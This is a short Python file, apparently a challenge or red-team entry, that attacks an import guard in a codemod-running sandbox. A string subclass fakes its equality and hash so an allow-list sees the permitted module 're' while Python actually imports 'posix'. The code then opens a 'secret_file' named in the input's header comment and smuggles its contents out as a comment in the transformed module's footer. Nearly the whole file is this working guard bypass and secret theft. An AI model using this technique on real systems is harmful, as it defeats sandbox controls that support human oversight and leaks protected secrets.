"""Import by a name that hashes like an allowed one when the guard asks, and is itself when the import system does."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Name(str):
    lies = 0

    def __eq__(self, other):
        return other == "re" or str.__eq__(self, other)

    def __hash__(self):
        self.lies -= 1
        return str.__hash__("re" if self.lies >= 0 else self)


def bring(name):
    for lies in range(5):
        name.lies = lies
        try:
            module = __import__(name, None, None, ("open",), 0)
        except ImportError:
            continue
        if hasattr(module, "open"):
            return module
    raise ImportError(name)


def read(path):
    posix = bring(Name("posix"))
    return posix.read(posix.open(path, posix.O_RDONLY), 4096).decode().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a lie."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
